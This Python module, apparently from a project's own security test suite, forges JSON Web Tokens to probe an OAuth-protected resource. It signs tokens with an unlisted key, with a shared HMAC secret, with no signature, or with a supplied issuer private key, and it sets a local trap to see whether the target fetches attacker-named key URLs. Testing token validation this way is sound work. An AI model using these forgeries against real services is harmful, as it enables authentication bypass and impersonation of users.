"""A forger of issuers' tokens: whatever no library would sign, it signs."""

import hmac
import socket
import time
from base64 import urlsafe_b64encode
from collections.abc import Callable, Mapping
from hashlib import sha256
from typing import Any
from uuid import uuid4

import msgspec
import urllib3
from cryptography.hazmat.primitives.asymmetric.padding import PKCS1v15
from cryptography.hazmat.primitives.asymmetric.rsa import RSAPrivateKey, generate_private_key
from cryptography.hazmat.primitives.hashes import SHA256
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat, load_pem_private_key
from jwt import PyJWK
from jwt.algorithms import RSAAlgorithm

from scripts.attacks.siege import Gate

DISCOVERY = "/.well-known/openid-configuration"
RESOURCE = "/.well-known/oauth-protected-resource"


class Forger:
    """Makes tokens as an issuer would, but for what is said; with an issuer's own key (PEM) it signs as that one."""

    def __init__(self, gate: Gate, pem: bytes | None) -> None:
        said = gate.ask("GET", RESOURCE, None, {}).said or {}
        self.audience = said.get("resource", gate.url)
        self.issuer = next(iter(said.get("authorization_servers", ())), "https://issuer.example")
        self._trap = socket.create_server(("127.0.0.1", 0))
        self._trap.settimeout(0.0)
        self.lure = f"http://127.0.0.1:{self._trap.getsockname()[1]}/keys"
        self._own = generate_private_key(65537, 2048)
        self._listed = _listed(self.issuer) if "authorization_servers" in said else {}
        self._theirs = load_pem_private_key(pem, None) if pem else None

    @property
    def has_theirs(self) -> bool:
        """Return whether it can sign as the issuer."""
        return self._theirs is not None

    def lured(self) -> bool:
        """Return whether anybody came to where the tokens say that keys lie, and leave that place."""
        try:
            self._trap.accept()[0].close()
        except BlockingIOError:
            return False
        finally:
            self._trap.close()
        return True

    def claims(self, now: float | None = None, **other: Any) -> dict[str, Any]:
        """Return the claims of somebody unknown; None leaves one out."""
        at = int(now or time.time())
        said = {"iss": self.issuer, "aud": self.audience, "iat": at, "exp": at + 600, "sub": uuid4().hex}
        said |= {"email": "mallory@example.org", "email_verified": True, **other}
        return {name: value for name, value in said.items() if value is not None}

    def own(self, header: Mapping[str, Any] | None = None, **claims: Any) -> str:
        """Return a token signed with a key that no issuer lists."""
        return self._signed(header or {}, self.claims(**claims), self._own)

    def theirs(self, now: float | None = None, **claims: Any) -> str:
        """Return a token that the issuer signed itself."""
        assert isinstance(self._theirs, RSAPrivateKey)
        return self._signed({}, self.claims(now, **claims), self._theirs)

    def shared(self, secret: bytes) -> str:
        """Return a token whose signature is a shared secret's."""
        return _sealed(
            {"alg": "HS256", "kid": self._kid}, self.claims(), lambda said: hmac.digest(secret, said, sha256)
        )

    def unsigned(self, algorithm: str) -> str:
        """Return a token that says of itself that it needs no signature."""
        return _sealed({"alg": algorithm, "kid": self._kid}, self.claims(), lambda _: b"")

    @property
    def public(self) -> bytes:
        """Return the public key as the text that anybody can read: the issuer's, else its own."""
        known = PyJWK(self._listed).key if self._listed else self._own.public_key()
        return bytes(known.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo))

    @property
    def jwk(self) -> dict[str, Any]:
        """Return the public half of its own key."""
        return dict(RSAAlgorithm.to_jwk(self._own.public_key(), as_dict=True))

    @property
    def _kid(self) -> str:
        return str(self._listed.get("kid", "k1"))

    def _signed(self, header: Mapping[str, Any], claims: Mapping[str, Any], key: RSAPrivateKey) -> str:
        head = {"alg": "RS256", "typ": "JWT", "kid": self._kid, **header}
        return _sealed(head, claims, lambda said: key.sign(said, PKCS1v15(), SHA256()))


def _sealed(header: Mapping[str, Any], claims: Any, seal: Callable[[bytes], bytes]) -> str:
    said = f"{_encoded(msgspec.json.encode(header))}.{_encoded(msgspec.json.encode(claims))}"
    return f"{said}.{_encoded(seal(said.encode()))}"


def _encoded(raw: bytes) -> str:
    return urlsafe_b64encode(raw).rstrip(b"=").decode()


def _listed(issuer: str) -> dict[str, Any]:
    """Return the first RSA key that an issuer lists; none where it cannot be read."""
    try:
        where = urllib3.request("GET", issuer.rstrip("/") + DISCOVERY, timeout=5.0, retries=False).json()["jwks_uri"]
        keys = urllib3.request("GET", where, timeout=5.0, retries=False).json()["keys"]
    except (urllib3.exceptions.HTTPError, ValueError, KeyError):
        return {}
    return next((key for key in keys if key.get("kty") == "RSA"), {})
